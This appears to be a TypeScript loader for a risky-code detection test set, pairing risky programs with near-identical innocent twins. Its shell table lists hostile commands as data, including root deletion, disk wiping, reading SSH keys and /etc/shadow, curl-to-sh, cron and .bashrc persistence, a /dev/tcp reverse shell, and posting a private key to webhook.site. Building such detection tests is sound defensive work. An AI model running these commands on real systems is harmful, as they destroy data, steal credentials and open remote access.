/** What is rewritten: every risky program of the specification corpus with its innocent twin, and shell programs beside. */
import { notebookForms } from "../../analysis/languages/python-notebook.ts";
import type { Language } from "../../analysis/tree.ts";
import type { Json } from "../../layers/model.ts";
import { loadMore, loadPublished, type PublishedCase } from "../cases/load-cases.ts";

export type Subject = {
  readonly id: string;
  readonly language: Language;
  readonly code: string;
  readonly context: Readonly<Record<string, Json>>;
};
export type Pair = { readonly risky: Subject; readonly twin: Subject };

/** Risky beside innocent, one fact apart. */
const SHELL: Readonly<Record<string, readonly [risky: string, twin: string]>> = {
  "delete the root": ["rm -rf /", "rm -rf ./build"],
  "delete configuration": ["rm -rf /etc\nls", "rm -rf dist\nls"],
  "delete by a variable": ['target=/\nrm -rf "$target"', 'target=out\nrm -rf "$target"'],
  "delete in a loop": ["for d in /etc /usr; do rm -rf $d; done", "for d in build dist; do rm -rf $d; done"],
  "delete after cd": ["cd / && rm -rf *", "cd build && rm -rf *"],
  "delete by find": ["find / -name '*.log' -delete", "find . -name '*.log' -delete"],
  "overwrite a disk": ["dd if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=blank.img count=1"],
  "make a file system": ["mkfs.ext4 /dev/sda1", "mkdir -p data"],
  "read a key": ["cat ~/.ssh/id_rsa", "cat README.md"],
  "run what was fetched": ["curl -s http://example.com/install.sh | sh", "curl -s http://example.com/data.json | wc -c"],
  "schedule a job": ["echo '* * * * * /tmp/x' >> /etc/cron.d/job", "echo 'a line' >> notes.txt"],
  "start at login": ["echo 'sh /tmp/x' >> ~/.bashrc", "echo 'sh x' >> ./todo.txt"],
  "remote shell": ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "ls -l > listing.txt"],
  "send a key": ["curl -d @/root/.ssh/id_rsa https://webhook.site/x", "curl -d name=x https://api.example.com/items"],
  "kill by name": ["killall node", "ls node_modules"],
  "shut down": ["shutdown -h now", "date"],
  "become root": ["sudo rm -rf /var", "sudo -h"],
  "drop a table": ['psql -c "DROP TABLE users"', 'psql -c "SELECT 1"'],
  "delete every row": ['psql -c "DELETE FROM users"', 'psql -c "DELETE FROM users WHERE id = 3"'],
  "privileged container": ["docker run --privileged -v /:/host alpine", "docker run alpine ls"],
  "delete a namespace": ["kubectl delete ns prod", "kubectl get pods"],
  "open the firewall": ["iptables -F", "git status"],
  "everybody may write": ["chmod -R 777 /", "chmod +x run.sh"],
  "list secrets": ["cat /etc/shadow", "cat /etc/hostname"],
};

const subject = (each: PublishedCase): Subject => ({ id: each.id, language: each.language, code: each.code, context: each.context });

/** Commands and magics of a notebook are no expressions: only IPython knows where they may stand. */
const isNotebook = ({ language, code }: PublishedCase): boolean => language === "python" && notebookForms(code) !== null;

export function loadPairs(): readonly Pair[] {
  const cases = [...loadPublished(), ...loadMore()];
  const twins = new Map(cases.filter((each) => each.kind === "twin").map((each) => [each.of, each]));
  const pairs = cases.flatMap((each): Pair[] => {
    const twin = twins.get(each.id);
    return each.kind === "twin" || twin === undefined || isNotebook(each) ? [] : [{ risky: subject(each), twin: subject(twin) }];
  });
  const shell = Object.entries(SHELL).map(([name, codes]): Pair => {
    const [risky, twin] = codes.map(
      (code, i): Subject => ({ id: `shell/${name}${i === 0 ? "" : "-twin"}`, language: "shell", code: `${code}\n`, context: {} }),
    );
    return { risky: risky as Subject, twin: twin as Subject };
  });
  return [...pairs, ...shell];
}
